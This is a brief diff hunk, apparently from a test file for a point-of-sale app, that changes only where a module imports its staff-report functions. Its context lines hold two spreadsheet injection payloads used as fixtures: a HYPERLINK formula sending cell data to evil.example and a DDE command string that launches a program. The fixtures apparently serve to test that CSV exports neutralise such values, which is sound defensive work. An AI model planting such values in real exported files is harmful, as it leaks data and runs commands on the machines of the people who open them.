@@ -29,7 +29,7 @@ from tui_pos.domain.segments import SegmentRule
 from tui_pos.domain.staff import Role
 from tui_pos.services.customer_export import export_segment_file, rows_csv
 from tui_pos.services.product_import import import_products
-from tui_pos.services.staff import audit_report, hours_report
+from tui_pos.services.staff_reports import audit_report, hours_report
 
 PRODUCT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CATEGORY = "+cmd|' /C calc'!A0"
